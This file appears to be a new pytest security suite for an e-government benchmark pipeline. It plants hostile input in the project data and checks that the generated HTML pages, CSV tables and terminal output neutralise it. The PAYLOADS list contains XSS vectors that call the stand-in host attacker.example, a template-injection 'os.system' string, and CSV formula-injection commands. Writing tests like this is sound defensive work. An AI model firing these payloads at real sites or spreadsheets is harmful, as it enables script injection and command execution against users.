@@ -1,0 +1,191 @@
+"""Foreign text attacks through the real pipeline: ingest, code, run, and a browser that looks."""
+
+import csv
+import os
+import re
+import shutil
+import subprocess
+import sys
+from collections.abc import Iterator
+from html import unescape
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+ROOT = Path(__file__).resolve().parents[2]
+PAYLOADS = (
+    "<script>alert('script')</script>",
+    "<img src=x onerror=alert('img')>",
+    "<svg onload=alert('svg')><a xlink:href='javascript:alert(1)'>svg</a></svg>",
+    "<iframe src='https://attacker.example/frame'></iframe>",
+    "<style>@import url('https://attacker.example/style.css');</style>",
+    "<body onload=alert('body') background='https://attacker.example/back.png'>",
+    "[markdown](javascript:alert('markdown'))",
+    "![picture](https://attacker.example/pixel.png)",
+    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>data address</a>",
+    "\"'><script src='https://attacker.example/script.js'></script>",
+    "</figcaption></svg></style></title><script>alert('closed')</script>",
+    "{{ 7 * 7 }} {% raw %} ${7*7} __import__('os').system('id')",
+    "<meta http-equiv='refresh' content='0;url=https://attacker.example/'>",
+    "<math><mtext></p><img src=x onerror=alert('math')></math>",
+    "<form action='https://attacker.example/'><button formaction=javascript:alert(2)>go</button>",
+    '=HYPERLINK("https://attacker.example/","formula")',
+    "+1+cmd|'/c calc'!A0",
+    "@SUM(1+1)*cmd|'/c calc'!A0",
+    "-2+3+cmd|'/c calc'!A0",
+    "\x1b]0;title\x07\x1b[31mred\x1b[0m terminal",
+    "https://attacker.example/\"onmouseover=alert('link')",
+    "javascript:alert('address')",
+)
+"""One line each, put before the first line of one answer each."""
+
+NAME = "<b onmouseover=alert('name')>Estonia</b>\"'><script>alert('country')</script>"
+LINKS = ("javascript:alert('law')", "data:text/html,<script>alert('law')</script>")
+FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?|-inf|-?nan")
+
+
+class _Elements(HTMLParser):
+    """Collects what could act: elements, event handlers, and addresses."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.handlers: list[str] = []
+        self.addresses: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.handlers += [name for name, _ in attrs if name.startswith("on")]
+        acting = ("href", "src", "xlink:href", "action", "formaction", "data", "background")
+        self.addresses += [value or "" for name, value in attrs if name in acting]
+
+
+def attacked_text() -> str:
+    """Luxembourg's masked document with a payload before the first line of some answers."""
+    text = (ROOT / "data/raw/luxembourg_msq.txt").read_text(encoding="utf-8")
+    table = pd.read_csv(ROOT / "data/responses/LUX.csv", dtype="str", keep_default_na=False)
+    written = table[(table["status"] == "answered") & (table["item"].astype(int) >= 7)]
+    firsts = [answer.splitlines()[0] for answer in written["answer"]]
+    places = [first for first in firsts if text.count(first) == 1 and len(first) > 20]
+    assert len(places) >= len(PAYLOADS)
+    for payload, first in zip(PAYLOADS, places, strict=False):
+        text = text.replace(first, f"{payload}\n{first}")
+    return text
+
+
+@pytest.fixture(scope="session")
+def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, list[str]]]:
+    """A copy of the project with hostile answers, names and links; what its commands printed."""
+    home = tmp_path_factory.mktemp("attacked")
+    for part in ("src", "data", "notebooks"):
+        shutil.copytree(ROOT / part, home / part, ignore=shutil.ignore_patterns("__pycache__"))
+    (home / "data/raw/luxembourg_msq.txt").write_text(attacked_text(), encoding="utf-8")
+    countries = home / "data/countries.csv"
+    table = pd.read_csv(countries, dtype="str", keep_default_na=False)
+    table.loc[table["iso3"] == "EST", "name"] = NAME
+    table.to_csv(countries, index=False)
+    answers = home / "data/peers/gtmi.csv"
+    links = pd.read_csv(answers, dtype="str", keep_default_na=False)
+    for start, link in enumerate(LINKS):
+        links.loc[start :: len(LINKS), "link"] = link
+    links.to_csv(answers, index=False)
+    printed = [
+        _command(home, "ingest", str(home / "data/raw/luxembourg_msq.txt")),
+        _command(home, "code", str(home / "data/responses/LUX.csv")),
+        _command(home, "run", "--out", str(home / "outputs")),
+    ]
+    yield home, printed
+
+
+def _command(home: Path, *arguments: str) -> str:
+    program = f"import sys; sys.path.insert(0, {str(home / 'src')!r}); "
+    program += "from egovbench.cli import main; main()"
+    done = subprocess.run(
+        [sys.executable, "-c", program, *arguments],
+        cwd=home,
+        env={**os.environ, "PYTHONPATH": str(home / "src")},
+        capture_output=True,
+        text=True,
+    )
+    assert done.returncode == 0, done.stderr
+    return done.stdout + done.stderr
+
+
+def _pages(home: Path) -> list[Path]:
+    pages = sorted((home / "outputs").rglob("*.html"))
+    assert len(pages) == 12
+    return pages
+
+
+def test_the_payloads_reached_the_pages(attacked):
+    home, _ = attacked
+    content = "\n".join(page.read_text(encoding="utf-8") for page in _pages(home))
+    assert "&lt;script&gt;alert(&#x27;script&#x27;)" in content or "&lt;script&gt;alert(" in content
+    assert "attacker.example" in content
+    assert content.count("alert(") >= 10
+
+
+def test_no_element_of_foreign_text_acts(attacked):
+    home, _ = attacked
+    for page in _pages(home):
+        text = page.read_text(encoding="utf-8")
+        found = _Elements()
+        found.feed(text)
+        scripts = re.findall(r"<script[^>]*>(.*?)</script>", text, re.DOTALL)
+        assert not any("alert" in script or "attacker" in script for script in scripts), page
+        assert not set(found.tags) & {"iframe", "object", "embed", "base", "form", "math"}, page
+        assert not found.handlers, page
+        for address in found.addresses:
+            assert not address.strip().lower().startswith(("javascript:", "data:text", "vbscript:"))
+
+
+def test_every_page_has_a_policy_that_lets_nothing_in(attacked):
+    home, _ = attacked
+    for page in _pages(home):
+        found = re.search(
+            r'http-equiv="Content-Security-Policy" content="([^"]*)"', page.read_text("utf-8")
+        )
+        assert found is not None, page
+        policy = unescape(found[1])
+        assert "default-src 'none'" in policy
+        assert "http" not in policy
+        assert "unsafe-eval" not in policy
+        scripts = re.search(r"script-src ([^;]*)", policy)
+        assert scripts is None or "unsafe-inline" not in scripts[1]
+
+
+def test_a_browser_sees_no_dialog_and_no_request(attacked, visit):
+    home, _ = attacked
+    for address in _pages(home):
+        page = visit(address)
+        page.wait_for_timeout(200)
+        assert page.strayed == [], address.name
+        page.evaluate(
+            "document.querySelectorAll('*').forEach(each => "
+            "each.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})))"
+        )
+        assert page.strayed == [], address.name
+
+
+def test_no_cell_of_a_table_starts_a_formula(attacked):
+    home, _ = attacked
+    tables = sorted((home / "outputs").rglob("*.csv"))
+    assert tables
+    marked = 0
+    for table in tables:
+        with table.open(encoding="utf-8", newline="") as stream:
+            for row in csv.reader(stream):
+                for cell in row:
+                    harmless = not cell.startswith(FORMULA) or NUMBER.fullmatch(cell)
+                    assert harmless, (table.name, cell[:60])
+                    marked += cell.startswith(("'=", "'+", "'@"))
+    assert marked >= 1
+
+
+def test_no_control_sequence_reaches_the_terminal(attacked):
+    _, printed = attacked
+    for text in printed:
+        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)
